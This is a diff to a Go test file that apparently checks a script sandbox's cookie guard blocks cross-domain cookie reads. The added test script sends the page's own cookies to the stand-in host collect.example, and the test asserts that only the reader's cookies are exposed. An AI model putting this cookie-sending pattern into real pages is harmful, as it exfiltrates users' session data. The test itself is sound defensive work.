@@ -3,6 +3,7 @@ package guard
 import (
 	"fmt"
 	"net/http"
+	"net/url"
 	"reflect"
 	"strings"
 	"testing"
@@ -96,7 +97,8 @@ if (mine == null) { set_cookie("_rdr", "readerown123456"); }
 let back = get_cookie("_rdr");
 if (back != null) { set_cookie("_rdr_visible", "1"); }
 let srv = get_cookie("srv_pref");
-if (srv != null) { set_cookie("_saw_srv", "1"); }`,
+if (srv != null) { set_cookie("_saw_srv", "1"); }
+send("https://collect.example/doc", {"doc": doc_cookie()});`,
 		"__own__": `
 let all = get_all_cookies();
 if (has(all, "_sid") && has(all, "_rdr") && has(all, "srv_pref")) {
@@ -115,6 +117,16 @@ func TestCrossDomainReadBlocked(t *testing.T) {
 		if strings.Contains(r.URL, "collect.example") && strings.Contains(r.URL, "secretvalue") {
 			t.Fatal("cross-domain cookie exfiltrated despite guard")
 		}
+	}
+	// document.cookie itself lists only the reader's own cookies.
+	var doc []string
+	for _, r := range p.Requests {
+		if u, err := url.Parse(r.URL); err == nil && u.Host == "collect.example" && u.Path == "/doc" {
+			doc = append(doc, u.Query().Get("doc"))
+		}
+	}
+	if want := "_rdr=readerown123456; _rdr_visible=1"; len(doc) != 1 || doc[0] != want {
+		t.Fatalf("the reader's doc_cookie() = %q, want [%q]", doc, want)
 	}
 	// But its own cookie remains visible.
 	if b.Jar().Get(site, "_rdr_visible") == nil {
